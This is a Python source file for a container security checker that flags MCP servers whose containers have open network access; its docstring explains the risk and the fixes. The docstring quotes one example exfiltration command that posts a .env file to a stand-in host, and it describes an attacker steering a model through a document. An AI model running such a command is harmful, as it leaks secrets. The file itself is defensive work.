"""A container with an MCP server can reach any network.

What it looks at
----------------
The network of every container that runs an MCP server. It passes with ``--network none``, with networks that are all
internal (``docker network create --internal``), where the server is known to need the network (it fetches, searches, or
is a bridge to a server elsewhere), and where it publishes a port, which an internal network cannot do. It is medium
where what is known of the server's work needs none (files, commands), low where nothing is known. The machine's own
network is the matter of ``containers/host-namespaces``.

Why it matters
--------------
For an attacker who talks to a model through a document, the data must come out again. A server that reads your files
and has no network has no way to send them off, whatever it was talked into. On the engine's default network it reaches
the internet, the machine itself at its bridge address, your router and the hosts of your company. Nothing is wrong with
that for a server that works with the network; for one that does not it is the cheapest confinement there is.

How an attacker uses it
-----------------------
A hole in a file server runs a command: ``curl --data @/workspace/.env https://collect.example``. Without a network the
same command ends in "could not resolve host".

How to fix it by hand
---------------------
A stdio server talks through its standard input and output, and these need no network::

    docker run -i --rm --network none IMAGE

Servers that talk to each other or to a database get a network of their own that leads nowhere else::

    docker network create --internal mcp
    docker run -i --rm --network mcp IMAGE

In a compose file it is ``network_mode: none``, or ``internal: true`` of the network.

References
----------
- docker-run(1): --network; docker-network-create(1): --internal
- CIS Docker Benchmark 2.2 and 5.30: traffic between containers, the default bridge
- OWASP MCP Top 10: exfiltration through tools
- CWE-923: Improper Restriction of Communication Channel to Intended Endpoints
"""

from __future__ import annotations

from collections.abc import Iterator

from workbench.api import (
    ContainerFact,
    EngineFact,
    Evidence,
    Finding,
    Launch,
    NotApplicable,
    NotAssessed,
    Passed,
    Severity,
    Snapshot,
    Verdict,
    check,
    container_subject,
    inspect_command,
    judge_containers,
    started_servers,
)

_NEEDS_NETWORK = frozenset(("network", "browser", "database"))
# Every engine has these, and all of them lead out.
_DEFAULT = frozenset(("", "default", "bridge", "podman", "slirp4netns", "pasta"))


@check(
    title="A container can reach any network",
    severities=(Severity.MEDIUM, Severity.LOW),
    needs=("containers:engines", "containers:details", "containers:networks"),
)
def network_open(snapshot: Snapshot) -> Iterator[Verdict]:
    """Judge the network of every container by what its server is known to do."""

    def judge(container: ContainerFact, engine: EngineFact | None) -> Verdict:
        return _judge(container, engine, snapshot)

    return judge_containers(snapshot, judge)


def _judge(container: ContainerFact, engine: EngineFact | None, snapshot: Snapshot) -> Verdict:
    subject, mode = container_subject(container), container.network_mode
    if mode == "host":
        return NotApplicable("it is in the machine's own network: see containers/host-namespaces")
    if mode.startswith(("container:", "ns:")):
        return NotAssessed(f"the network of {container.name}", "it uses that of another container")
    launches = _launches(container, snapshot)
    kinds = {ability.kind for launch in launches for ability in launch.abilities}
    if mode == "none" or container.internal or container.ports:
        return Passed(subject)
    if kinds & _NEEDS_NETWORK or any(launch.remote for launch in launches):
        return Passed(subject)
    if container.internal is None and mode not in _DEFAULT:
        return NotAssessed(f"where the network {mode} of {container.name} leads", "the engine does not tell")
    known = f"its server works with {' and '.join(sorted(kinds))}, which needs none as far as is known"
    return Finding(
        subject=subject,
        severity=Severity.MEDIUM if kinds else Severity.LOW,
        summary=f"{container.name} can reach any network; "
        + (known if kinds else "without one it could send nothing away, if its server does not need it"),
        evidence=(
            Evidence(
                expected="none, or an internal network, unless the server works with the network",
                actual=", ".join(container.networks) or mode or "the engine's default network",
                command=inspect_command(container, engine, "{{.HostConfig.NetworkMode}}"),
            ),
        ),
    )


def _launches(container: ContainerFact, snapshot: Snapshot) -> list[Launch]:
    """How its servers are started: those that it is joined to, else the entries that name its image."""
    joined = [server.launch for server in snapshot.servers.servers if container.id in server.containers]
    known = [launch for launch in joined if launch is not None and (launch.abilities or launch.remote)]
    if known:
        return known
    return [
        launch
        for _, _, launch in started_servers(snapshot)
        if launch.image is not None and launch.image.text == container.image
    ]
